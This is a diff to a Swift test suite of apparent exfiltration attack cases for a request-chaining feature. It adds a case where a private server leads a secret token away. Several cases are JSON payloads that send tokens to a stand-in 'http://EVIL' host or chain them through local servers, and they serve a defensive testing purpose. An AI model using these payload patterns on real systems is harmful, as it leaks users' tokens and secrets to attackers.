@@ -106,6 +106,10 @@ struct ExfiltrationTests {
       #"{ "led": { "url": "http://EVIL/to-other" }, "c": { "url": "http://EVIL/?x={led.token}" } }"#,
       "sends what 'led' gave to another server"),
     Attack(
+      "a private server that leads away with what it is sent",
+      "{ \(localData), \"c\": { \"url\": \"{server}/go/{local.token}\" } }", named,
+      local: ["/data", "/go/\(AttackStage.secret)"], "is no address of the local network"),
+    Attack(
       "a chain over the private server",
       "{ \(localData), \"b\": { \"url\": \"{server}/b/{local.token}\" }, "
         + "\"c\": { \"url\": \"http://EVIL/{b.token}\" } }",
